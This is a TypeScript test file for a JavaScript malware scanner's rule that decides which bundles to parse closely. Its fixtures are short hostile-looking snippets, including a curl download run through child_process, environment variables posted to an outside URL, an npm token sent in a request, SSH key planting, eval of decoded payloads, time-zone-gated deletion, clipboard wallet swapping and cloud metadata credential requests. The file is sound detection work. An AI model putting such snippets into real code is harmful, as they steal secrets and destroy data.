/**
 * Which files are parsed (js-file.ts wantsAst): a bundle is read closely when two
 * capabilities that act together stand together (a request and the environment, a process and a
 * URL, decoding and running code), even with encoded data between them; ordinary bundle code that
 * names capabilities far apart, lists module names, links to documentation in comments or sets
 * two targets side by side is not. A small file is parsed unless all it names is one weak token
 * (an environment read, a request, a decoding name).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { wantsAst } from '../../src/analyzers/content/js-file.js';

/** ~200 KiB of plain minified-looking code with no capability token. */
function filler(seed: string): string {
  const parts: string[] = [];
  for (let i = 0; parts.join('').length < 200 * 1024; i++) parts.push(`function ${seed}${i}(a,b){return a*${i}+b.length}`);
  return parts.join(';');
}
const inBundle = (code: string): string => `${filler('a')};${code};${filler('b')}`;

test('a process started next to a download command is parsed; the same capability far from any target is not', () => {
  assert.equal(wantsAst(inBundle(`var {exec:x}=de("child_process");x("curl -s https://dl.example.invalid/x -o /tmp/x")`)), true);
  const far = `${filler('a')};var {exec:x}=de("child_process");${filler('b')};var note="see /tmp/ for logs";`;
  assert.equal(wantsAst(far), false, 'a temporary path 200 KiB away is not what the process acts on');
});

test('a request next to environment reads, and fetch next to its replacement, are parsed', () => {
  assert.equal(wantsAst(inBundle(`https.request({host:h,headers:{t:process.env.NPM_TOKEN}})`)), true);
  assert.equal(wantsAst(inBundle(`var o=window.fetch;window.fetch=async function(...a){return fetch(...a)}`)), true);
});

test('a file write next to a home-directory key file is parsed; a parser full of regular-expression exec calls and loops is not', () => {
  assert.equal(wantsAst(inBundle(`fs.appendFileSync(path.join(os.homedir(),".ssh","authorized_keys"),key)`)), true);
  assert.equal(wantsAst(inBundle(`for(;;){var m=re.exec(s);if(!m)break;out.push(String.fromCharCode(m[1]))}`)), false);
  // One kind alone, however often, is not a pair.
  assert.equal(wantsAst(inBundle(`fetch(a);fetch(b);fetch(c)`)), false);
});

test('decoding a large literal and running it is one pair: the encoded data between them is not code', () => {
  const blob = Buffer.alloc(48 * 1024, 'payload-bytes').toString('base64');
  assert.equal(wantsAst(inBundle(`var p=atob("${blob}");var q=1;eval(p)`)), true);
  const codes = Array.from({ length: 6000 }, (_, i) => 32 + (i % 90)).join(',');
  assert.equal(wantsAst(inBundle(`var s=String.fromCharCode(${codes});new Function(s)()`)), true);
  // Decoding and running code are ordinary apart: a source-map comment decoder and a template compiler 200 KiB away.
  assert.equal(wantsAst(`${filler('a')};var m=atob(x);${filler('b')};var f=new Function("a","return a");`), false);
});

test('a module loaded by a computed name pairs only with decoding', () => {
  assert.equal(wantsAst(inBundle(`var r=require;var m=r(Buffer.from("2e2f74657374","hex").toString())`)), true);
  assert.equal(wantsAst(inBundle(`var m=require(name);if(process.env.DEBUG)console.log(m)`)), false);
});

test('names and links are not capabilities: a list of built-in modules, a URL in a comment, two targets side by side', () => {
  assert.equal(wantsAst(inBundle(`var builtins=["buffer","child_process","cluster","dgram","dns","http","https","net","tls"]`)), false);
  assert.equal(wantsAst(inBundle(`var versions={child_process:true,cluster:">= 0.5",dgram:true,http:true}`)), false);
  assert.equal(wantsAst(inBundle(`// see https://requirejs.org/docs/errors.html\nvar cp=require("child_process")`)), false);
  assert.equal(wantsAst(inBundle(`if(process.env.NODE_ENV!=="production")warn("see https://nextjs.org/docs/messages/x")`)), false);
  // The same URL in code, next to the process that fetches it, is a pair.
  assert.equal(wantsAst(inBundle(`var u="https://dl.example.invalid/p.sh";require("child_process").execSync("sh -c "+u)`)), true);
});

test('a deletion next to a time-zone check, a wallet address next to the clipboard, code run next to an image file, a request to the cloud metadata address are parsed', () => {
  assert.equal(
    wantsAst(
      inBundle(`var{rmSync:r}=de("fs"),z=Intl.DateTimeFormat().resolvedOptions().timeZone;if(z===T)r(process.cwd(),{recursive:!0})`),
    ),
    true,
  );
  assert.equal(wantsAst(inBundle(`var{exec:x}=de("child_process");x(p==="win32"?"rd /s /q "+d:"rm -rf "+d)`)), true);
  assert.equal(
    wantsAst(
      inBundle(`setInterval(()=>{var v=execSync("pbpaste")+"";if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(v))execSync("pbcopy")},1e3)`),
    ),
    true,
  );
  assert.equal(wantsAst(inBundle(`var o=window.fetch;window.fetch=async(...a)=>swap(await o(...a),"0x${'4'.repeat(40)}")`)), true);
  assert.equal(wantsAst(inBundle(`var b=fs.readFileSync(p.join(__dirname,"logo.png"));eval(b.slice(b.lastIndexOf("IEND")+8)+"")`)), true);
  assert.equal(wantsAst(inBundle(`http.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/",cb)`)), true);
  assert.equal(
    wantsAst(inBundle(`fetch("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",{headers:h})`)),
    true,
  );
  // Each alone is ordinary: a date library's time zones, a list of icons, a link.
  assert.equal(wantsAst(inBundle(`function tz(d){return Intl.DateTimeFormat().resolvedOptions().timeZone}`)), false);
  assert.equal(wantsAst(inBundle(`var icons=["a.png","b.png"];function f(s){return s.replace(/x/g,"y")}`)), false);
});

test('an invisible character that can be part of a name is parsed; joiners inside a Unicode table are not', () => {
  assert.equal(wantsAst(inBundle(`const {timeout,\u3164}=req.query;exec(\u3164)`)), true);
  assert.equal(wantsAst(inBundle(`var isAdmin\u200d=true`)), true);
  assert.equal(wantsAst(inBundle(`var nonASCIIidentifierChars="\u200c\u200d\xb7\u0300-\u036f"`)), false);
});

test('a small file is parsed when a capability can act in it: one weak token alone (an environment read, a request, a decoding name) is not enough', () => {
  assert.equal(wantsAst(`module.exports=function(){if(process.env.NODE_ENV!=="production")console.warn(process.env.DEBUG)}`), false);
  assert.equal(wantsAst(`exports.get=(u)=>fetch(u).then((r)=>r.json())`), false);
  assert.equal(wantsAst(`exports.id=(b)=>createHash("sha1").update(b).digest("hex")`), false);
  // Two classes together: the environment and a request.
  assert.equal(wantsAst(`fetch("https://x.invalid/c",{method:"POST",body:JSON.stringify(process.env)})`), true);
  // Code run from data is never weak, nor is a replaced fetch, nor a module that acts.
  assert.equal(wantsAst(`var c=bits(img);new Function(c)()`), true);
  assert.equal(wantsAst(`var f=window.fetch;window.fetch=function(u,o){return f(u,o)}`), true);
  assert.equal(wantsAst(`require("child_process").exec(cmd)`), true);
  assert.equal(wantsAst(`var x=1;\nwhile(true){}`), true);
});

test('a large file with no capability at all is not parsed', () => {
  assert.equal(wantsAst(filler('c')), false);
});
